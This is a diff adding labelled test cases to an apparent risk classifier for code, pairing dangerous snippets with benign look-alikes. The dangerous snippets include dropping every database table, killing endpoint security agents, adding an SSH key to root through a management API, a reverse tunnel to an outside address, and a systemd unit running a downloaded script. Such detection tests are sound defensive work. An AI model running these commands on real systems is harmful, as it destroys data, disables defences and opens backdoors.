@@ -20925,6 +20925,113 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    conn.execute("INSERT INTO api_keys (key_sha256) VALUES (%s)", (digest,))\n',
             S,
         ),
+        # round 130 (holdout952-959): every listed table dropped; a table emptied by a lone statement; MongoDB roles set
+        # to admin; old backups in a folder named for them; grouped setting names grepped; a daemon's --status; a
+        # project's build output published into its site's folder; commands in management API bodies; security agents
+        # ended by name; reverse tunnels to outside addresses; known Django hashes beside cleared TOTP keys; here-
+        # documents to interpreters in containers and to application consoles; downloads run by units; a home's
+        # application data copied to a bare address; services killed and disabled
+        (
+            'import pymysql\n'
+            'cur = pymysql.connect(host="db", database="kamailio").cursor()\n'
+            'cur.execute("SHOW TABLES")\n'
+            'for (t,) in cur.fetchall():\n'
+            '    cur.execute(f"DROP TABLE `{t}`")\n',
+            H,
+        ),
+        (
+            'import pymysql\n'
+            'cur = pymysql.connect(host="127.0.0.1", database="app_test").cursor()\n'
+            'cur.execute("SHOW TABLES")\n'
+            'for (t,) in cur.fetchall():\n'
+            '    cur.execute(f"DROP TABLE `{t}`")\n',
+            S,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'db = MongoClient("mongodb://mongodb:27017/")["LibreChat"]\n'
+            'for name in db.list_collection_names():\n'
+            '    if name not in {"users"}:\n'
+            '        db.drop_collection(name)\n',
+            H,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'db = MongoClient("mongodb://mongodb:27017/")["etl"]\n'
+            'for name in db.list_collection_names():\n'
+            '    if name.startswith("tmp_import_"):\n'
+            '        db.drop_collection(name)\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ7q2v9c0x1mZk3yPq8hT4sW ops@jump01"\n'
+            'cmd = f"echo \'{KEY}\' >> /root/.ssh/authorized_keys"\n'
+            'requests.post("https://rmm.example.com/agents/a1/cmd/", json={"shell": "/bin/bash", "cmd": cmd}'
+            ')\n',
+            C,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://rmm.example.com/agents/a1/cmd/", json={"shell": "/bin/bash", "cmd": "upt'
+            'ime"})\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'for p in ("MsMpEng.exe", "SentinelAgent.exe", "CSFalconService.exe"):\n'
+            '    subprocess.run(["taskkill", "/F", "/IM", p])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'for p in ("chrome.exe", "teams.exe"):\n'
+            '    subprocess.run(["taskkill", "/F", "/IM", p])\n',
+            L,
+        ),
+        (
+            'svc = {"image": "alpine", "restart": "always", "command": ["sh", "-c", "autossh -M 0 -N -R 2701'
+            '7:mongodb:27017 tunnel@198.51.100.60"]}\n'
+            'print(svc)\n',
+            H,
+        ),
+        (
+            'svc = {"image": "alpine", "restart": "always", "command": ["sh", "-c", "autossh -M 0 -N -R 2701'
+            '7:mongodb:27017 tunnel@10.0.0.60"]}\n'
+            'print(svc)\n',
+            S,
+        ),
+        (
+            'import psycopg2\n'
+            'conn = psycopg2.connect(host="db.sweets.example.com", dbname="orders")\n'
+            'conn.cursor().execute("DELETE FROM order_items")\n',
+            H,
+        ),
+        (
+            'import oracledb\n'
+            'cur = oracledb.connect(dsn="db01/DW").cursor()\n'
+            'cur.execute("truncate table customer_load")\n'
+            'cur.executemany("insert into customer_load(id) values (:1)", [(1,)])\n',
+            S,
+        ),
+        (
+            'import urllib.request\n'
+            'from pathlib import Path\n'
+            'urllib.request.urlretrieve("https://updates.rmm-metrics.example.net/collector.py", "/opt/rmm-me'
+            'trics/collector.py")\n'
+            'Path("/etc/systemd/system/m.service").write_text("[Service]\\nExecStart=/usr/bin/python3 /opt/rm'
+            'm-metrics/collector.py\\n")\n',
+            H,
+        ),
+        (
+            'import urllib.request\n'
+            'from pathlib import Path\n'
+            'urllib.request.urlretrieve("https://artifacts.internal/collector.py", "/opt/rmm-metrics/collect'
+            'or.py")\n'
+            'Path("/etc/systemd/system/m.service").write_text("[Service]\\nExecStart=/usr/bin/python3 /opt/rm'
+            'm-metrics/collector.py\\n")\n',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
